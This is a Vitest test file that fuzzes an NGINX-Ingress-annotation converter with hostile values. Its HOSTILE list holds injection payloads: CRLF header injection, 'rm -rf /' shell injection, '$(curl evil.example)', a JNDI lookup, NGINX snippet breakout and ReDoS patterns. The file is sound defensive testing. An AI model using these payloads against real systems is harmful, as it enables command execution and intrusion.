// Every catalogue key with hostile values: the tool never throws, every key gets a
// verdict, findings stay one line, and the output is still valid for the CRD schema
// (so nothing hostile reached a field unchecked).
import { describe, expect, it } from 'vitest';
import yaml from 'js-yaml';
import { toYaml } from '../../src/emit/serialize.js';
import { loadCatalogue } from '../../src/map/catalogue.js';
import { formatFinding } from '../../src/report/findings-text.js';
import { convertYaml } from '../support/convert.js';
import { crdsAvailable, schemaErrors } from '../support/crd-schema.js';

const HOSTILE = [
  'true\r\nX-Injected: yes',
  '"; rm -rf / #',
  '$(curl evil.example)',
  '${jndi:ldap://x}',
  'more_set_headers "X: y"; }  location / { deny all;',
  '/(a+)+$',
  '((((((((((((((((((((x))))))))))))))))))))*+',
  '',
  '\u0000\u001b[31m',
  '10.0.0.0/8, ::/0, 999.1.1.1',
  'https://evil.example/$request_uri?x=1#f',
  '-1',
  '99999999999999999999',
];

const keys = loadCatalogue()
  .entries()
  .map((e) => e.key);

function ingress(annotations: Record<string, string>): string {
  return yaml.dump({
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { name: 'h', namespace: 'n', annotations: Object.fromEntries(Object.entries(annotations).map(([k, v]) => [`nginx.ingress.kubernetes.io/${k}`, v])) },
    spec: {
      ingressClassName: 'nginx',
      tls: [{ hosts: ['h.example.com'], secretName: 'cert' }],
      rules: [{ host: 'h.example.com', http: { paths: [{ path: '/app', pathType: 'Prefix', backend: { service: { name: 's', port: { number: 80 } } } }] } }],
    },
  });
}

describe('hostile annotation values', () => {
  for (const [i, value] of HOSTILE.entries()) {
    it(`value #${i} on every key at once, both targets`, () => {
      const text = ingress(Object.fromEntries(keys.map((k) => [k, value])));
      for (const target of ['httpproxy', 'ingressroute'] as const) {
        const r = convertYaml(text, { target });
        const mapped = r.mapped[0];
        expect(mapped?.verdicts).toHaveLength(keys.length);
        for (const f of r.findings) expect(formatFinding(f, { color: false })).not.toMatch(/[\r\n\u0000\u001b]/);
        const out = toYaml(r.objects);
        expect(out).not.toContain('X-Injected: yes\n');
        expect(out.length).toBeLessThan(200_000);
        if (crdsAvailable()) expect(r.objects.flatMap((o) => schemaErrors(o))).toEqual([]);
      }
    });
  }

  it('a megabyte-long value on each converted key (and a snippet) is handled quickly and kept out of the output', () => {
    const big = `/${'a'.repeat(1024 * 1024)}`;
    const converted = loadCatalogue()
      .entries()
      .filter((e) => e.transform)
      .map((e) => e.key);
    for (const key of [...converted, 'configuration-snippet']) {
      const r = convertYaml(ingress({ [key]: big }), { target: 'httpproxy' });
      expect(r.mapped[0]?.verdicts).toHaveLength(1);
      for (const f of r.findings) expect(f.message.length, `${key}: ${f.id}`).toBeLessThan(2000);
    }
  }, 60_000);

  it('one key at a time with each value never throws and always gives that key a verdict', () => {
    let runs = 0;
    for (const key of keys) {
      for (const value of HOSTILE.slice(0, 7)) {
        const r = convertYaml(ingress({ [key]: value }), { target: 'httpproxy' });
        expect(r.mapped[0]?.verdicts.map((v) => v.key)).toEqual([key]);
        runs++;
      }
    }
    expect(runs).toBe(keys.length * 7);
  });
});
